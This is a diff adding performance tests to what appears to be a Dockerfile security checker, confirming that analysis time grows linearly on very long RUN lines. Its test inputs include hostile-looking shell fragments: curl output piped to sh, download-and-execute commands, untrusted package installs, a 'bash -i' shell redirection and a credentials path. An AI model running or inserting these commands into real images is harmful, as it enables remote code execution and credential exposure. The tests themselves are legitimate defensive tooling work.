@@ -86,3 +86,30 @@ def test_three_thousand_stages_remember_where_the_user_comes_from() -> None:
     text = "FROM a:1 AS s0\nUSER app\n" + "".join(f"FROM s{at} AS s{at + 1}\n" for at in range(3_000))
     *_, last = (subject for subject in read(Source("Dockerfile", text), Context()).subjects if isinstance(subject, Stage))
     assert (last.user.text, last.user.trail[0].message) == ("app", "inherited here by stage s3000")
+
+
+SCRIPTS = {
+    "downloads piped": ("curl -k https://a.example.com/{0} | sh", " && "),
+    "substitutions": ('sh -c "$(curl https://a.example.com/{0})"', " && "),
+    "downloads run": ("curl -o a{0} https://a.example.com/a{0} && sh a{0}", " && "),
+    "packages": ("apk add --allow-untrusted a{0}.apk", " && "),
+    "passwords": ("useradd -p x{0} a{0}", " && "),
+    "models": ("git clone https://huggingface.co/acme/a{0}", " && "),
+    "connections": ("bash -i <&{0}", " && "),
+    "a pipeline": ("curl https://a.example.com/{0}", " | "),
+    "a pipeline of groups": ("(a{0})", " | "),
+    "addresses": ("curl https://a.example.com/{0}", " https://b.example.com/{0} "),
+    "pointers": ("true", "\nENV GOOGLE_APPLICATION_CREDENTIALS=/k/{0}\nCOPY a{0} /k/\nRUN "),
+}
+
+
+@pytest.mark.parametrize(("piece", "between"), SCRIPTS.values(), ids=SCRIPTS)
+def test_scripts_without_end(piece: str, between: str) -> None:
+    def work(size: int) -> None:
+        judge("FROM debian:13\nRUN " + between.join(piece for _ in range(size)).format(7) + "\n")
+
+    assert_grows_linearly(work, 500, 5_000)
+
+
+def test_a_group_that_reads_from_a_group() -> None:
+    assert_grows_linearly(lambda size: judge(f"FROM debian:13\nRUN ({'a;' * size}) | ({'sh;' * size})\n"), 400, 4_000)
